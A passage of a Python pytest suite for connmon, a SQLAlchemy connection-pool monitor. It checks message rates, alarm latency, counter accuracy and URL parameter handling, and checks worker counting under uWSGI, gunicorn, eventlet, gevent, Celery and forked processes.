        continue
    elif cmd == "timed_out":
        waiter[-1].join(30)
        answer("ok", *timed_out)
        continue
    answer("ok")
'''


class RhythmApp(App):
    source = RHYTHM_APP_SCRIPT


def rhythm_app(apps, tmp_path, address: str, progname: str,
               **options: Any) -> App:
    """A RhythmApp reporting to ``address``, its engines on two SQLite
    files, held.sqlite and served.sqlite."""
    urls = [f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
            f"&connmon_addr={address}" for name in ("held", "served")]
    return apps(json.dumps(urls), progname, app_class=RhythmApp, **options)


def held_pool(daemon: Daemon, progname: str) -> Optional[dict]:
    """The figures of the pool of a RhythmApp's first engine."""
    row = daemon.row(progname, procs=True)
    for proc in row["procs"] if row else ():
        for pool in proc["pools"]:
            if (pool["endpoint"] or {}).get("database", "").endswith(
                    "held.sqlite"):
                return pool
    return None


def seen_at(check: Callable[[], Any], what: str) -> float:
    """When (time.time()) ``check`` was first seen true."""
    return wait_until(lambda: check() and time.time(), 10, what)


@pytest.mark.parametrize("rate", [10, 200])
def test_about_a_message_a_second_and_the_picture_within_one(
        rate, daemon, apps, tmp_path):
    """A process serving 10 or 200 requests a second sends at most 1.5
    messages a second (counted on the wire, pings included), and still a
    connection it holds 4 s shows in the picture within 1.5 s, and leaves
    it within 1.5 s of its checkin."""
    relay = Relay(daemon.port)
    progname = f"rhythm{rate}.py"
    app = rhythm_app(apps, tmp_path, f"127.0.0.1:{relay.port}", progname)
    app(f"serve {rate}")
    wait_until(lambda: held_pool(daemon, progname), 10, "the app attached")

    def messages() -> int:
        with relay.lock:
            return relay.received.count(b"\n")
    counted_from, began = messages(), time.monotonic()
    (checkout,) = map(float, app("hold"))
    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 1,
                    "the held connection in the picture")
    time.sleep(max(0.0, checkout + 4 - time.time()))   # (held 4 s)
    (checkin,) = map(float, app("release"))
    gone = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 0,
                   "the held connection gone from the picture")
    sent = (messages() - counted_from) / (time.monotonic() - began)
    relay.close()
    assert shown - checkout <= 1.5 and gone - checkin <= 1.5, (
        shown - checkout, gone - checkin)
    assert sent <= 1.5, f"{sent:.2f} messages a second at {rate} requests/s"


def test_alarms_reach_the_picture_at_once(daemon, apps, tmp_path):
    """While the process sends its once-a-second messages, a pool becoming
    exhausted, a checkout waiting and its timeout each reach the picture
    within 0.5 s."""
    progname = "alarms.py"
    app = rhythm_app(apps, tmp_path, daemon.address, progname, pool_size=2,
                     max_overflow=0, pool_timeout=1)
    app("serve 20")
    app("hold")
    wait_until(lambda: (held_pool(daemon, progname) or {}).get("ckout"),
               10, "the first connection held")
    (exhausted,) = map(float, app("hold"))
    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 2,
                    "the pool exhausted")
    assert held_pool(daemon, progname)["limit"] == 2
    (waiting,) = map(float, app("wait"))
    waiting_shown = seen_at(lambda: daemon.row(progname)["waiting"] == 1,
                            "a checkout waiting")
    timeout_shown = seen_at(
        lambda: daemon.row(progname)["timeouts_total"] == 1, "the timeout")
    (timed_out,) = map(float, app("timed_out"))
    lags = {"exhausted": shown - exhausted,
            "waiting": waiting_shown - waiting,
            "timeout": timeout_shown - timed_out}
    assert all(lag <= 0.5 for lag in lags.values()), lags


def test_counters_of_a_process_that_exits_all_arrive(daemon, apps,
                                                     tmp_path):
    """1,000 checkouts, then a normal exit at once: the last ones, not yet
    due for sending, are sent as the process exits."""
    app = apps(f"sqlite:///{tmp_path}/exits.sqlite?plugin=connmon"
               f"&connmon_addr={daemon.address}", "exits.py")
    app("query 1000")
    app.proc.stdin.write("exit\n")
    app.proc.stdin.flush()
    assert app.proc.wait(10) == 0
    daemon.wait_row("exits.py", connected=False, ckout_total=1000)


def test_checkouts_of_many_threads_each_counted_once(daemon, apps,
                                                    tmp_path):
    """Eight threads check out and in 1,500 times each from a pool of
    four: every checkout and every hold counted once, though each is
    counted only in its connection's note, by the thread holding it; and
    a connection invalidated while out is closed, not a hold."""
    app = apps(sqlite_url(tmp_path, daemon), "notes.py", pool_size=4,
               max_overflow=0)
    app("parallel 8 1500")
    app("hold 1")
    app("invalidate")
    row = daemon.wait_row("notes.py", conn=3, ckout=0, ckout_total=12001,
                          holds_total=12000, invalidations_total=1,
                          maxckout=4)
    assert row["hold_seconds_total"] > 0


PLAIN_URLS = {"sqlite": None, "mariadb": MYSQL_URL,
              "postgresql": POSTGRESQL_URL}


def plain_url(backend: str, tmp_path) -> str:
    """A URL of ``backend`` without connmon (a file database for SQLite)."""
    url = PLAIN_URLS[backend]
    if url is None:
        return f"sqlite+pysqlite:///{tmp_path}/plain.sqlite"
    require_database(url)
    return url


def driver_parameters(engine) -> List[Dict[str, Any]]:
    """The keyword arguments each new connection of ``engine`` hands its
    DBAPI driver, as the dialect's do_connect event sees them."""
    from sqlalchemy import event
    seen: List[Dict[str, Any]] = []
    event.listen(engine, "do_connect",
                 lambda dialect, rec, cargs, cparams: seen.append(
                     dict(cparams)))
    return seen


@pytest.mark.parametrize("backend", ["sqlite", "mariadb", "postgresql"])
def test_connmon_engine_url_reused_with_a_plain_driver_connects(
        backend, daemon, tmp_path):
    import sqlalchemy as sa
    url = plain_url(backend, tmp_path)
    engine = sa.create_engine(monitored(url, daemon, "dialect"))
    assert engine.url.drivername.endswith("_connmon")
    assert not [key for key in engine.url.query if key.startswith("connmon")]
    with engine.connect() as conn:   # the settings went to connmon all the
        daemon.wait_row(connmon.progname(), conn=1, ckout=1)   # same
        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
    plain_drivername = sa.engine.make_url(url).drivername
    reused = sa.create_engine(engine.url.set(drivername=plain_drivername))
    cparams = driver_parameters(reused)
    with reused.connect() as conn:
        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
    assert len(cparams) == 1
    assert not [key for key in cparams[0] if key.startswith("connmon")]
    reused.dispose()
    engine.dispose()
    daemon.wait_row(connmon.progname(), conn=0)


@pytest.mark.parametrize("form", ["dialect", "plugin"])
def test_engine_url_keeps_no_connmon_parameter_in_either_form(
        form, daemon, tmp_path):
    import sqlalchemy as sa
    url = monitored(f"sqlite+pysqlite:///{tmp_path}/u.sqlite?timeout=7",
                    daemon, form) + "&connmon_sites=0&connmon_endpoint=1"
    engine = sa.create_engine(url)
    assert dict(engine.url.query) == {"timeout": "7"}   # the app's stays
    cparams = driver_parameters(engine)
    with engine.connect():
        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
    assert cparams[0]["timeout"] == 7.0
    assert not [key for key in cparams[0] if key.startswith("connmon")]
    assert engine.execution_options(x=1).url == engine.url
    engine.dispose()
    daemon.wait_row(connmon.progname(), conn=0)


def test_create_connect_args_passes_on_what_its_base_accepts(daemon,
                                                             tmp_path):
    """As the MySQL dialects' own subclasses call it (asyncmy's passes
    _translate_args), and with a stand-in URL (SQLAlchemy's OnConnectTest
    makes its engine from a Mock)."""
    from unittest import mock
    import sqlalchemy as sa
    require_database(MYSQL_URL)
    url = sa.engine.make_url(monitored(MYSQL_URL, daemon))
    monitored_dialect = type(sa.create_engine(url).dialect)

    class Renaming(monitored_dialect):
        def create_connect_args(self, url):
            return super().create_connect_args(
                url, _translate_args=dict(username="user", database="db"))

    dialect = Renaming(dbapi=monitored_dialect.import_dbapi())
    cargs, cparams = dialect.create_connect_args(url)
    assert cparams["user"] == "root" and cparams["db"] == "test"
    assert not [key for key in cparams if key.startswith("connmon")]
    with pytest.warns(DeprecationWarning, match="'db' is deprecated"):
        connection = dialect.connect(*cargs, **cparams)   # the real driver
    connection.close()

    sqlite_dialect = type(sa.create_engine(
        sqlite_url(tmp_path, daemon)).dialect)
    initialized = []

    class Initializing(sqlite_dialect):
        supports_statement_cache = True

        def initialize(self, connection):
            super().initialize(connection)
            initialized.append(connection)

    stand_in = mock.Mock(
        username=None, password=None, host=None, port=None, query={},
        database=None, _instantiate_plugins=lambda kw: (stand_in, [], kw),
        _get_entrypoint=mock.Mock(return_value=mock.Mock(
            get_dialect_cls=lambda u: Initializing)))
    engine = sa.create_engine(stand_in, poolclass=sa.pool.QueuePool)
    assert engine.name == "sqlite"
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
    assert len(initialized) == 1
    assert engine.url is stand_in   # left alone: it has no connmon_*
    engine.dispose()


@pytest.mark.parametrize("form", ["dialect", "plugin"])
def test_pool_connect_patches_are_called_and_their_undoing_honoured(
        form, daemon, tmp_path):
    from unittest import mock
    import sqlalchemy as sa
    from sqlalchemy.pool import Pool, QueuePool
    url = monitored(f"sqlite+pysqlite:///{tmp_path}/p.sqlite", daemon, form)
    pool_connect = QueuePool.connect
    with mock.patch.object(QueuePool, "connect", autospec=True,
                           side_effect=pool_connect) as patched:
        engine = sa.create_engine(url)   # made while patched
        assert isinstance(engine.pool, (QueuePool, connmon.MeasuredPool))
        with engine.connect():
            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
        assert patched.call_count == 1
        assert patched.call_args.args == (engine.pool,)
    engine.connect().close()
    assert patched.call_count == 1   # undone: no longer called
    wrapped = []

    def apm_connect(pool):   # an APM agent's wrapper of Pool.connect
        wrapped.append(pool)
        return pool_connect(pool)

    with mock.patch.object(Pool, "connect", apm_connect):
        with engine.connect():
            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
    assert wrapped == [engine.pool]
    daemon.wait_row(connmon.progname(), conn=1, ckout=0)
    with mock.patch.object(QueuePool, "connect") as bare:   # no connection
        engine.connect().close()                           # behind it
    bare.assert_called_once_with()   # bound as plain SQLAlchemy binds it
    with engine.connect() as conn:   # and still monitored as it was
        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
    engine.dispose()
    daemon.wait_row(connmon.progname(), conn=0)


@pytest.mark.parametrize("form", ["dialect", "plugin"])
def test_info_dictionaries_equal_plain_sqlalchemys(form, daemon, tmp_path):
    import sqlalchemy as sa
    from sqlalchemy import event
    db = f"sqlite+pysqlite:///{tmp_path}/i.sqlite"
    engines = {"plain": sa.create_engine(db),
               "monitored": sa.create_engine(monitored(db, daemon, form))}
    seen: Dict[str, List[tuple]] = {name: [] for name in engines}
    for name, engine in engines.items():
        event.listen(engine, "checkout",
                     lambda dbapi, record, proxy, name=name: seen[name].append(
                         (dict(record.info), dict(record.record_info))))
        for round_ in range(2):   # a new connection, then the pooled one
            with engine.connect() as conn:
                seen[name].append((dict(conn.info),
                                   dict(conn.connection.info),
                                   dict(conn.connection.record_info)))
                conn.info["app"] = round_   # the application's own state
            with engine.connect() as conn:
                seen[name].append((dict(conn.info),))
                del conn.info["app"]
        detached = engine.connect()
        detached.detach()
        seen[name].append((dict(detached.info),))
        detached.close()
    assert seen["monitored"] == seen["plain"]
    assert seen["plain"][:2] == [({}, {}), ({}, {}, {})]
    assert len(seen["plain"]) == 10   # 5 checkouts, listener and block
    daemon.wait_row(connmon.progname(), conn=0, ckout=0)   # (the detached
    for engine in engines.values():                       # one is closed)
        engine.dispose()


# ===========================================================================
# Runtimes and app servers
#
# Every runtime is a first-class host: uWSGI workers, spooler and master,
# gunicorn, Celery's prefork pool, eventlet and gevent (over TLS, with the
# hub blocked), asyncio engines, and workers forked with C fork() or
# os.fork().
# ===========================================================================


def test_forked_workers(daemon, apps):
    require_database(MYSQL_URL)
    app = apps(monitored(MYSQL_URL, daemon), "forking.py", pool_size=3,
               max_overflow=0)
    workers = app.fork(8)
    held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
    total = sum(held.values())
    # The parent made the engine but never used it: it started no thread
    # and is not a process of the program (see docs/configuration.txt, "Forked workers").
    # Each worker announces its pool's capacity, 3.
    row = daemon.wait_row("forking.py", procs=True, nproc=8, conn=total,
                          ckout=total, limit=8 * 3)
    by_pid = {p["pid"]: (p["conn"], p["ckout"], p["limit"], p["exhausted"])
              for p in row["procs"]}
    assert by_pid == {pid: (n, n, 3, n == 3) for pid, n in held.items()}
    assert not row["exhausted"]

    victim = workers[2]
    os.kill(victim, signal.SIGKILL)
    row = daemon.wait_row("forking.py", procs=True, nproc=7,
                          conn=total - held[victim])
    assert victim not in {p["pid"] for p in row["procs"]}

    app.stop()   # the parent and all its workers
    row = daemon.wait_row("forking.py", connected=False, nproc=0, conn=0,
                          ckout=0)
    assert (row["maxnproc"], row["maxconn"], row["maxckout"]) == (
        8, total, total)


# One WSGI application for every server.  Its engine is made at import
# (in a preforking server's master, before the fork, as OpenStack API
# services do), optionally after monkey-patching.  GET /work holds, on a
# worker's first request, pid % 3 + 1 connections for good and runs a
# query; GET /pid only reports.  Both answer the worker's pid and its
# pool's own counts: the truth connmon is compared with.
WSGI_APP = r'''
import json, os, threading, time
PATCH = {patch!r}
if PATCH == "eventlet":
    import eventlet
    eventlet.monkey_patch()
elif PATCH == "eventlet-after-connmon":
    import connmon
    import eventlet
    eventlet.monkey_patch()
elif PATCH == "eventlet-os-false":
    import eventlet
    eventlet.monkey_patch(os=False)
elif PATCH == "gevent":
    from gevent import monkey
    monkey.patch_all()
import sqlalchemy as sa

engine = sa.create_engine({url!r}, pool_size={pool_size}, max_overflow=0)
if {use_at_load!r}:   # a look at the database while loading, then let go
    with engine.connect() as conn:
        conn.execute(sa.text("SELECT 1"))
    engine.dispose()
held = []
first = threading.Lock()

def counts():
    out = engine.pool.checkedout()
    return {{"pid": os.getpid(), "conn": out + engine.pool.checkedin(),
             "ckout": out, "limit": engine.pool.size()}}

def application(environ, start_response):
    if environ["PATH_INFO"] == "/work":
        with first:
            if not held:
                for _ in range(os.getpid() % 3 + 1):
                    held.append(engine.connect())
                    held[-1].execute(sa.text("SELECT 1"))
        with engine.connect() as conn:
            conn.execute(sa.text("SELECT SLEEP(0.02)"))
    else:
        time.sleep(0.02)   # spreads concurrent probes over the workers
    body = json.dumps(counts()).encode()
    start_response("200 OK", [("Content-Type", "application/json"),
                              ("Content-Length", str(len(body)))])
    return [body]

def serve_gevent(port):
    from gevent.pywsgi import WSGIServer
    WSGIServer(("127.0.0.1", port), application, log=None).serve_forever()

def serve_oslo(port, workers):
    """oslo.service's eventlet ProcessLauncher, as OpenStack API services
    ran: the socket and the engine made in the parent, workers forked."""
    import eventlet.wsgi
    from oslo_config import cfg
    from oslo_service import service
    sock = eventlet.listen(("127.0.0.1", port))

    class WSGIService(service.ServiceBase):
        def start(self):
            eventlet.spawn(eventlet.wsgi.server, sock, application,
                           log_output=False)
        def stop(self):
            pass
        def wait(self):
            pass
        def reset(self):
            pass

    cfg.CONF([], project="connmon-test")
    launcher = service.ProcessLauncher(cfg.CONF, restart_method="mutate")
    launcher.launch_service(WSGIService(), workers=workers)
    launcher.wait()

if __name__ == "__main__":
    import sys
    if sys.argv[1] == "gevent":
        serve_gevent(int(sys.argv[2]))
    else:
        serve_oslo(int(sys.argv[2]), int(sys.argv[3]))
'''

POOL_SIZE = 8


def write_wsgi_app(tmp_path, daemon: Daemon, patch: str = "",
                   use_at_load: bool = False,
                   name: str = "connmon_wsgi_app") -> pathlib.Path:
    """The WSGI application file, monitored by ``daemon``."""
    path = tmp_path / f"{name}.py"
    path.write_text(WSGI_APP.format(
        patch=patch, url=monitored(MYSQL_URL, daemon, "plugin"),
        pool_size=POOL_SIZE, use_at_load=use_at_load))
    return path


class Server:
    """A real app server subprocess (serving HTTP on a free loopback
    port), killed with its whole process group.  ``answers`` is what
    check_server asks it."""

    def __init__(self, tmp_path, argv: List[str], port: int = 0):
        self.port = port
        self.log = tmp_path / "server.log"
        env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
            [str(tmp_path), CHILD_ENV["PYTHONPATH"]]))
        self.proc = subprocess.Popen(
            argv, cwd=tmp_path, env=env, stdin=subprocess.DEVNULL,
            stdout=open(self.log, "ab"), stderr=subprocess.STDOUT,
            start_new_session=True)

    def get(self, path: str) -> Dict[str, Any]:
        import urllib.request
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}{path}",
                                    timeout=5) as reply:
            return json.loads(reply.read())

    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
        """``concurrency`` requests at once; the answers that came."""
        replies: List[dict] = []

        def one():
            try:
                replies.append(self.get(path))
            except OSError:
                pass
        threads = [threading.Thread(target=one) for _ in range(concurrency)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(10)
        return replies

    def stop(self) -> None:
        kill_group(self.proc)

    def log_tail(self) -> str:
        return self.log.read_text(errors="replace")[-3000:]


def check_server(server: Server, daemon: Daemon, progname: str,
                 workers: int, timeout: float = 40.0) -> None:
    """Have every worker of the started ``server`` answer (HTTP requests,
    Celery tasks), then compare connmon's per-pid picture with each
    worker's own pool counts; stop the server.  A worker that never
    answers (deadlocked) fails the wait."""
    try:
        seen: Dict[int, dict] = {}

        def every_worker_served():
            if server.proc.poll() is not None:
                raise AssertionError(f"server exited: {server.log_tail()}")
            seen.update((r["pid"], r) for r in server.answers("/work"))
            return len(seen) >= workers
        try:
            wait_until(every_worker_served, timeout,
                       f"{workers} workers to answer")
        except AssertionError as err:
            raise AssertionError(f"{err}; answered: {sorted(seen)}\n"
                                 f"{server.log_tail()}") from None
        assert len(seen) == workers, seen
        truth: Dict[int, tuple] = {}
        picture: Dict[int, tuple] = {}

        def pictures_agree():
            truth.update((r["pid"], (r["conn"], r["ckout"], r["limit"]))
                         for r in server.answers("/pid"))
            row = daemon.row(progname, procs=True)
            picture.clear()
            picture.update((p["pid"], (p["conn"], p["ckout"], p["limit"]))
                           for p in (row or {}).get("procs", []))
            return set(truth) == set(seen) and picture == truth
        try:
            wait_until(pictures_agree, 20, "connmon's picture to equal "
                       "the workers' pools")
        except AssertionError:
            raise AssertionError(f"connmon {picture} != pools {truth}\n"
                                 f"{server.log_tail()}") from None
        # Each worker's first request held pid % 3 + 1 for good.
        assert {pid: t[1] for pid, t in truth.items()} == {
            pid: pid % 3 + 1 for pid in seen}
        row = daemon.row(progname)
        assert (row["nproc"], row["limit"], row["exhausted"]) == (
            workers, workers * POOL_SIZE, False)
        log = server.log_tail()
        assert "Traceback" not in log and "connmon:" not in log, log
        assert server.log.stat().st_size < 64 << 10, "a flooded log"
    finally:
        server.stop()


UWSGI_MODES = {
    "default": [],
    "lazy-apps": ["--lazy-apps"],
    "enable-threads": ["--enable-threads"],
    "fork-hooks": ["--py-call-uwsgi-fork-hooks"],
    "osafterfork": ["--py-call-osafterfork"],
}


# Several starts of the modes that deadlocked, each with an application
# that looks at the database while the master loads it.
@pytest.mark.parametrize("mode, start", [
    (mode, start) for mode in UWSGI_MODES
    for start in range(3 if mode in ("default", "osafterfork") else 1)])
def test_uwsgi_workers_are_counted_and_never_deadlock(tmp_path, mode, start):
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
        port = free_port()
        check_server(Server(tmp_path, [
            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
            "--processes", "4", "--wsgi-file", str(app), "--die-on-term",
            "--disable-logging", *UWSGI_MODES[mode]], port), daemon,
            "uwsgi", 4)
    finally:
        daemon.stop()


# The WSGI application, and a spooler function that holds two connections
# for good (the first time) and writes its pid and pool counts where the
# task says; GET /spool?PATH enqueues such a task.
SPOOLER_PART = r'''
import uwsgi

def spool_task(env):
    if not held:
        held.extend(engine.connect() for _ in range(2))
    with open(env[b"report"], "w") as report:
        json.dump(counts(), report)
    return uwsgi.SPOOL_OK

uwsgi.spooler = spool_task
serve = application

def application(environ, start_response):
    if environ["PATH_INFO"] == "/spool":
        uwsgi.spool({b"report": environ["QUERY_STRING"].encode()})
    return serve(environ, start_response)
'''


def test_uwsgi_spooler_is_counted(tmp_path):
    """A spooler, forked with C fork() from the master that loaded the
    application, is listed as its own process with its pool's counts."""
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
        app.write_text(app.read_text() + SPOOLER_PART)
        spool, report = tmp_path / "spool", tmp_path / "report.json"
        spool.mkdir()
        port = free_port()
        server = Server(tmp_path, [
            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
            "--processes", "2", "--spooler", str(spool), "--wsgi-file",
            str(app), "--die-on-term", "--disable-logging"], port)
        try:
            wait_until(lambda: server.answers(f"/spool?{report}", 1), 40,
                       "uWSGI to serve")
            wait_until(report.exists, 20, "the spooler to run the task")
            truth = json.loads(report.read_text())
            assert (truth["conn"], truth["ckout"]) == (2, 2)
            workers = {r["pid"] for r in server.answers("/pid", 8)}
            assert truth["pid"] not in workers

            def spooler_listed():
                row = daemon.row("uwsgi", procs=True) or {}
                return {p["pid"]: (p["conn"], p["ckout"], p["limit"])
                        for p in row.get("procs", [])}.get(truth["pid"])
            wait_until(lambda: spooler_listed() == (2, 2, POOL_SIZE), 20,
                       "the spooler to be listed with its counts")
            log = server.log_tail()
            assert "Traceback" not in log and "connmon:" not in log, log
        finally:
            server.stop()
    finally:
        daemon.stop()


# With --preload the master imports the application (the engine is made
# before the fork); without it each worker imports it after the fork.
@pytest.mark.parametrize("worker, preload", [
    ("sync", True), ("sync", False), ("gthread", True), ("gevent", True),
    ("gevent", False)])
def test_gunicorn_workers_are_counted(tmp_path, worker, preload):
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path)
    try:
        write_wsgi_app(tmp_path, daemon,
                       patch="gevent" if worker == "gevent" else "")
        port = free_port()
        check_server(Server(tmp_path, [
            "gunicorn", *(["--preload"] if preload else []), "-w", "3",
            "-k", worker, *(["--threads", "4"] if worker == "gthread" else []),
            "-b", f"127.0.0.1:{port}",
            "connmon_wsgi_app:application"], port), daemon, "gunicorn", 3)
    finally:
        daemon.stop()


@pytest.mark.parametrize("patch", ["eventlet", "eventlet-after-connmon",
                                   "eventlet-os-false"])
def test_eventlet_oslo_service_workers_are_counted(tmp_path, patch):
    require_database(MYSQL_URL)
    require_module("oslo_service")
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon, patch=patch)
        port = free_port()
        check_server(Server(tmp_path, [
            sys.executable, str(app), "oslo", str(port), "2"], port), daemon,
            app.name, 2)
    finally:
        daemon.stop()


def test_gevent_patch_all_app_is_counted(tmp_path):
    require_database(MYSQL_URL)
    daemon = Daemon(tmp_path)
    try:
        app = write_wsgi_app(tmp_path, daemon, patch="gevent")
        port = free_port()
        check_server(Server(tmp_path, [
            sys.executable, str(app), "gevent", str(port)], port), daemon,
            app.name, 1)
    finally:
        daemon.stop()


# A Celery app whose tasks answer as the WSGI application's requests do,
# with its engine: made when the worker's main process imports the app,
# before the prefork pool forks its children.  The broker and the result
# backend are folders (kombu's filesystem transport, Celery's file://
# backend): no service to run.
CELERY_APP = r"""
import json
from celery import Celery
import connmon_wsgi_app

app = Celery("connmon_celery_app")
app.conf.update({config!r})

@app.task(name="answer")
def answer(path):
    body = connmon_wsgi_app.application({{"PATH_INFO": path}},
                                        lambda status, headers: None)
    return json.loads(b"".join(body))
"""


def whole_message_transport() -> type:
    """kombu's filesystem transport, writing each message whole before
    it appears in the queue's folder: its own creates the file, then
    writes it, and a worker polling in between reads an empty message
    and dies of it (JSONDecodeError).  The worker reads as usual."""
    import uuid
    from kombu.transport import filesystem

    class WholeChannel(filesystem.Channel):
        def _put(self, queue, payload, **kwargs):
            name = (f"{int(time.monotonic() * 1000)}_{uuid.uuid4()}."
                    f"{queue}.msg")
            final = os.path.join(self.data_folder_out, name)
            with open(final + ".part", "wb") as part:   # (not a .msg)
                part.write(filesystem.str_to_bytes(filesystem.dumps(payload)))
            os.rename(final + ".part", final)

    class Transport(filesystem.Transport):
        Channel = WholeChannel

    return Transport


class CeleryWorker(Server):
    """A real Celery worker with a prefork pool of ``concurrency``
    children, its app's engine monitored by ``daemon``; the test sends it
    tasks through its folders."""

    def __init__(self, tmp_path, daemon: Daemon, concurrency: int):
        import celery
        folders = {name: tmp_path / "celery" / name for name in
                   ("queue", "processed", "control", "results")}
        for folder in folders.values():
            folder.mkdir(parents=True)
        config = {
            "broker_url": "filesystem://",
            "broker_transport_options": {
                "data_folder_in": str(folders["queue"]),
                "data_folder_out": str(folders["queue"]),
                "store_processed": True,
                "processed_folder": str(folders["processed"]),
                "control_folder": str(folders["control"]),
                "polling_interval": 0.02},
            "broker_connection_retry_on_startup": True,
            "result_backend": f"file://{folders['results']}",
            "worker_prefetch_multiplier": 1}
        write_wsgi_app(tmp_path, daemon)
        (tmp_path / "connmon_celery_app.py").write_text(
            CELERY_APP.format(config=config))
        self.client = celery.Celery("connmon-test-client")
        self.client.conf.update(config,
                                broker_transport=whole_message_transport())
        super().__init__(tmp_path, [
            "celery", "-A", "connmon_celery_app", "worker",
            "--pool=prefork", f"--concurrency={concurrency}",
            "--without-gossip", "--without-mingle", "--without-heartbeat",
            "--loglevel=WARNING"])

    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
        """``concurrency`` tasks at once; the answers that came within
        ten seconds (a task that failed fails the test)."""
        import celery.exceptions
        results = [self.client.send_task("answer", [path])
                   for _ in range(concurrency)]
        deadline = time.monotonic() + 10
        replies = []
        for result in results:
            try:
                replies.append(result.get(
                    timeout=max(0.1, deadline - time.monotonic()),
                    interval=0.02))
            except celery.exceptions.TimeoutError:
                pass
        return replies

    def stop(self) -> None:
        super().stop()
        self.client.close()


def test_celery_prefork_workers_are_counted(tmp_path):
    require_database(MYSQL_URL)
    require_module("celery")
    daemon = Daemon(tmp_path)
    try:
        check_server(CeleryWorker(tmp_path, daemon, 3), daemon, "celery", 3)
    finally:
        daemon.stop()


# A parent that uses its engine, then forks a worker with C fork() (as
# uWSGI does: no Python at-fork hook runs) or with os.fork(); the worker
# holds two connections of its own.
FORK_SCRIPT = r'''
import ctypes, os, sys, time
import sqlalchemy as sa

engine = sa.create_engine(sys.argv[1], pool_size=4, max_overflow=0)
parent_held = engine.connect()
sys.stdin.readline()   # the test has seen the parent: fork now
if sys.argv[2] == "c":
    # PyDLL: the GIL stays held across fork(), so the child owns it
    pid = ctypes.PyDLL(None).fork()
else:
    pid = os.fork()
if pid == 0:
    held = [engine.connect() for _ in range(2)]
    while True:
        time.sleep(60)
print(pid, flush=True)
while True:
    time.sleep(60)
'''


@pytest.mark.parametrize("fork", ["c", "os"])
def test_forked_child_counted_and_killed_parent_leaves_at_once(
        daemon, tmp_path, fork):
    """A child of C fork() notices its new pid and starts its own sender;
    either child closes the parent's daemon socket, so the parent,
    SIGKILLed, leaves the counts at once (not after the 30 s heartbeat)."""
    parent = Script(tmp_path, "forker.py", FORK_SCRIPT,
                    f"sqlite:///{tmp_path}/f.sqlite?plugin=connmon"
                    f"&connmon_addr={daemon.address}", fork)
    try:
        daemon.wait_row("forker.py", nproc=1, conn=1, ckout=1)
        # (a C fork in the middle of the parent's busy spell is noticed at
        # the child's first event after connmon.WAKE_AGAIN: see README)
        time.sleep(3 * connmon.WAKE_AGAIN)
        parent.send("fork")
        (child,) = map(int, parent.line())
        row = daemon.wait_row("forker.py", procs=True, nproc=2, conn=3,
                              ckout=3)
        assert {p["pid"]: (p["conn"], p["ckout"], p["limit"])
                for p in row["procs"]} == {parent.proc.pid: (1, 1, 4),
                                           child: (2, 2, 4)}
        parent.proc.kill()
        row = daemon.wait_row("forker.py", procs=True, nproc=1,
                              conn=2, ckout=2)
        assert [p["pid"] for p in row["procs"]] == [child]
    finally:
        parent.stop()


FIRST_USE_SCRIPT = r'''
import os, sys
import sqlalchemy as sa
import connmon

def threads():
    return len(os.listdir("/proc/self/task"))

engine = sa.create_engine(sys.argv[1], pool_size=2)
print("made", threads(), len(connmon._senders), flush=True)
pid = os.fork()   # on Python 3.12+ this warns if other threads exist
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
with engine.connect() as conn:
    conn.execute(sa.text("SELECT 1"))
print("used", threads(), flush=True)
sys.stdin.readline()
'''


def test_no_thread_until_the_first_pool_event(daemon, tmp_path):
    """An app that makes its engine and forks before using it has no
    thread of connmon's at the fork (Python 3.12 warns about those)."""
    app = Script(tmp_path, "threads.py", FIRST_USE_SCRIPT,
                 f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
                 f"&connmon_addr={daemon.address}",
                 python=("-W", "error::DeprecationWarning"))
    try:
        assert app.line() == ["made", "1", "1"]
        assert app.line() == ["used", "3"]
        daemon.wait_row("threads.py", nproc=1, conn=1, ckout=0)
    finally:
        app.stop()


# A uWSGI master, as connmon sees one: the "uwsgi" module the server
# embeds says worker 0, mule 0.  The application churns its pool there;
# nothing may grow, and the counts are right once it becomes a worker.
MASTER_CHURN = 6000
MASTER_SCRIPT = f"CHURN = {MASTER_CHURN}\n" + r'''
import sys, types
import sqlalchemy as sa
uwsgi = sys.modules["uwsgi"] = types.ModuleType("uwsgi")
uwsgi.worker_id = lambda: worker
uwsgi.mule_id = lambda: 0
uwsgi.i_am_the_spooler = lambda: None
worker = 0
import connmon

engine = sa.create_engine(sys.argv[1], pool_size=3, max_overflow=0)
held = [engine.connect(), engine.connect()]
(sender,) = connmon._senders.values()
longest = 0
for _ in range(CHURN):   # a connection closed and one opened: 3 events
    conn = engine.connect()
    conn.invalidate()
    conn.close()
    longest = max(longest, len(sender.events))
engine.connect().close()   # (the last one closed opens again)
queued = len(sender.events)
for _ in range(CHURN):   # checkouts and checkins queue nothing
    engine.connect().close()
print(len(sender.threads), longest, connmon.MAX_QUEUED,
      len(sender.events) - queued, flush=True)
worker = 1   # the loading process becomes worker 1 (uWSGI without --master)
engine.connect().close()
print(len(sender.threads), flush=True)
sys.stdin.readline()
'''


def test_queue_bounded_while_no_thread_may_start(daemon, tmp_path):
    master = Script(tmp_path, "master.py", MASTER_SCRIPT,
